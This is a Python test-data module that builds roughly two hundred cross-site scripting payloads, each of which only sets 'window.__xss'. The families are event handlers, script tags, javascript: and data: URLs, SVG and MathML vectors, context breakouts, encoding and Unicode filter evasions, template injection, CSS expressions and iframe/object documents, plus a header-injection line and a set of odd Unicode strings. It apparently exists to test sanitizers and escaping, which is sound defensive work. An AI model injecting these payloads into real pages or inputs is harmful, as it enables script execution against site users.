"""Two hundred texts that would run a script, were they ever taken for more than text.

Each sets ``window.__xss``. They are of all families: elements that run, attributes that
run, addresses that run, SVG and MathML, what breaks out of where text stands, spellings
that a filter overlooks, templates, styles, and documents in documents.
"""

from itertools import product

RUN = "window.__xss=1"

_EVENTS = (
    *("<img src=x onerror={0}>", "<img src=x: onerror={0}//", "<svg onload={0}>"),
    *("<body onload={0}>", "<body onpageshow={0}>", "<input autofocus onfocus={0}>"),
    *("<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>"),
    *("<keygen autofocus onfocus={0}>", "<details open ontoggle={0}>x</details>"),
    *("<video src=x onerror={0}></video>", "<audio src=x onerror={0}></audio>"),
    *("<video><source onerror={0}></video>", "<object data=x onerror={0}></object>"),
    *("<iframe onload={0}></iframe>", "<frameset onload={0}>", "<marquee onstart={0}>"),
    *("<link rel=stylesheet href=x onerror={0}>", "<style onload={0}></style>"),
    *("<script src=x onerror={0}></script>", "<div onpointerover={0}>x</div>"),
    *("<div style=animation-name:x onanimationstart={0}>x", "<p onclick={0}>x</p>"),
    *("<a onfocus={0} tabindex=0 id=x>x</a>", "<x contenteditable onblur={0}>x</x>"),
    *("<image src=x onerror={0}>", "<isindex type=image src=x onerror={0}>"),
    *("<dialog open onclose={0}>", "<body onscroll={0}><br id=x>", "<bdi onload={0}>"),
)
_SCRIPTS = (
    *("<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<ScRiPt>{0}</sCrIpT>"),
    *("<script >{0}</script >", "<script/x>{0}</script>", "<script\n>{0}</script\n>"),
    *("<script\t>{0}</script>", "<script\f>{0}</script>", "<<script>{0}//<</script>"),
    *("<script>{0}", "<script>//\n{0}</script>", "<script><!--\n{0}\n--></script>"),
    *("<script type=module>{0}</script>", "<script type=text/javascript>{0}</script>"),
    *("<script src=data:text/javascript,{0}></script>", "<scr<script>ipt>{0}</script>"),
    *(
        "<script>eval(atob('d2luZG93Ll9feHNzPTE='))</script>",
        "</p><script>{0}</script>",
    ),
    *("<script>Function('{0}')()</script>", "<script>setTimeout('{0}')</script>"),
    *("<noscript><p title='</noscript><img src=x onerror={0}>'>",),
)
_ADDRESSES = (
    *("javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "java\tscript:{0}"),
    *("java\nscript:{0}", "javascript&colon;{0}", "javascript&#58;{0}"),
    *("javascript:/*-->*/{0}", "javascript://%0a{0}", "vbscript:{0}"),
    *("data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("view-source:javascript:{0}", "feed:javascript:{0}", "blob:{0}"),
)
_BEARERS = (
    *('<a href="{1}">x</a>', '<iframe src="{1}"></iframe>', '<form action="{1}">'),
    *('<embed src="{1}">', '<base href="{1}//">'),
)
_DRAWN = (
    *("<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} /></svg>"),
    *("<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><set onbegin={0}>"),
    *("<svg><a xlink:href='javascript:{0}'><text y=20>x</text></a></svg>",),
    *("<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{0}'/>#x\"></svg>",),
    *("<svg><foreignObject><img src=x onerror={0}></foreignObject></svg>",),
    *("<svg><title><img src=x onerror={0}></title></svg>", "<svg/onload={0}>"),
    *("<svg><style><img src=x onerror={0}></style></svg>", "<svg\nonload={0}>"),
    *("<math><mtext><script>{0}</script></mtext></math>",),
    *("<math href='javascript:{0}'>x</math>", "<math><maction xlink:href='{0}'>x"),
    *("<math><style><img src=x onerror={0}></style></math>",),
    *("<svg></p><style><a id='</style><img src=x onerror={0}>'>",),
)
_BREAKS = (
    *(
        '"><img src=x onerror={0}>',
        "'><img src=x onerror={0}>",
        '"onfocus={0} autofocus x="',
    ),
    *("' autofocus onfocus={0} x='", "</textarea><script>{0}</script>"),
    *("</title><script>{0}</script>", "</style><script>{0}</script>"),
    *(
        "</script><script>{0}</script>",
        "--><script>{0}</script>",
        "]]><script>{0}</script>",
    ),
    *("</bdi><script>{0}</script>", "</time></p></article><script>{0}</script>"),
    *(
        "`><img src=x onerror={0}>",
        '\\"><img src=x onerror={0}>',
        "';{0};//",
        '";{0};//',
    ),
    *("</option></select><img src=x onerror={0}>", "</template><script>{0}</script>"),
    *("-->]]>'\"><svg onload={0}>", "</summary><img src=x onerror={0}>"),
    *("\r\n\r\n<script>{0}</script>", "\r\nX-Evil: 1\r\n\r\n<script>{0}</script>"),
    *("<!--><img src=x onerror={0}>-->", "<![CDATA[<img src=x onerror={0}>]]>"),
    *("<?xml version='1.0'?><script>{0}</script>", "<!ENTITY x SYSTEM 'x'><script>{0}"),
    *("<plaintext><script>{0}</script>", "<listing>&lt;img src=x onerror={0}&gt;"),
    *("<xmp></xmp><img src=x onerror={0}>",),
)
_SPELLED = (
    *("&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;"),
    *("&#x3c;img src=x onerror={0}&#x3e;", "&amp;lt;script&amp;gt;{0}"),
    *("%3Cscript%3E{0}%3C/script%3E", "%253Cscript%253E{0}", "\\u003cscript\\u003e{0}"),
    *(
        "\\x3cscript\\x3e{0}",
        "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
        "＜img src=x onerror={0}＞",
    ),
    *("+ADw-script+AD4-{0}+ADw-/script+AD4-", "\u2028<script>{0}</script>"),
    *(
        "<s\u200bcript>{0}</s\u200bcript>",
        "<\u00adscript>{0}",
        "<img src=x one\u200drror={0}>",
    ),
    *("<ſcript>{0}</ſcript>", "<İmg src=x onerror={0}>", "\u202e<script>{0}</script>"),
    *(
        "<img\u00a0src=x\u00a0onerror={0}>",
        "<img/src=x/onerror={0}>",
        "<img src=x\tonerror\n=\n{0}>",
    ),
    *("<img src=`x` onerror={0}>", '<img """><script>{0}</script>">'),
)
_TEMPLATES = (
    *("{{{{7*7}}}}{{{{{0}}}}}", "{{% raw %}}<script>{0}</script>{{% endraw %}}"),
    *(
        "${{{0}}}",
        "#{{{0}}}",
        "<%= {0} %>",
        "[[{0}]]",
        "{{{{constructor.constructor('{0}')()}}}}",
    ),
    *(
        "{{{{''.__class__.__mro__}}}}<script>{0}</script>",
        "{{name.__init__}}<script>{0}</script>",
    ),
    *("%(name)s<script>{0}</script>", "{{0}}{{days}}<script>{0}</script>"),
    *("<div ng-app ng-csp>{{{{{0}}}}}</div>", "<div v-html=\"'{0}'\"></div>"),
)
_STYLES = (
    *("<div style=\"background:url('javascript:{0}')\">x</div>",),
    *(
        '<div style="width:expression({0})">x</div>',
        "<style>@import 'javascript:{0}';</style>",
    ),
    *(
        "<style>*{{x:expression({0})}}</style>",
        "<link rel=stylesheet href='data:text/css,*'>{0}",
    ),
    *(
        "<div style='-moz-binding:url(x#{0})'>x</div>",
        "<xss style='behavior:url({0})'>",
    ),
)
_DOCUMENTS = (
    *("<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",),
    *("<iframe srcdoc='&lt;script&gt;parent.__xss=1&lt;/script&gt;'></iframe>",),
    *("<object data='data:text/html,<script>parent.__xss=1</script>'></object>",),
    *("<embed src='data:image/svg+xml,<svg onload=parent.__xss=1>'>",),
    *("<meta http-equiv=refresh content='0;url=javascript:{0}'>",),
    *("<meta http-equiv=Content-Security-Policy content=''><script>{0}</script>",),
    *("<form id=x></form><button form=x formaction='javascript:{0}'>x</button>",),
    *("<input type=image src=x onerror={0}>", "<portal src='javascript:{0}'></portal>"),
    *("[x](javascript:{0})", '![x](x" onerror="{0})', "[url=javascript:{0}]x[/url]"),
    *(
        "<a id=document><a id=document name=cookie>{0}",
        "<form name=body><input name=x>{0}",
    ),
)

VECTORS = [
    *(
        text.format(RUN)
        for family in (
            *(_EVENTS, _SCRIPTS, _DRAWN, _BREAKS),
            *(_SPELLED, _TEMPLATES, _STYLES, _DOCUMENTS),
        )
        for text in family
    ),
    *(
        bearer.replace("{1}", address.format(RUN))
        for bearer, address in product(_BEARERS, _ADDRESSES)
    ),
]

ODD = {
    "bidi": "\u202eevil\u202c \u2066x\u2069 שלום abc 123",
    "zalgo": "Z" + "\u0315\u0334\u0362" * 300 + "algo",
    "lines": "One\r\nTwo\rThree\u2028Four\u0085Five",
    "nothing": "a\0b",
    "control": "a\x1b[31mb\x07",
    "emoji": "\N{WOMAN}\u200d\N{ROCKET}" * 1000,
    "width": "ｗｉｄｅ　ｔｅｘｔ",
    "joined": "ﷺ" * 200,
    "long": "x" * 4000,
    "private": "\ue000\U0010fffd",
    "not characters": "\ufffe\uffff\U0001ffff",
}
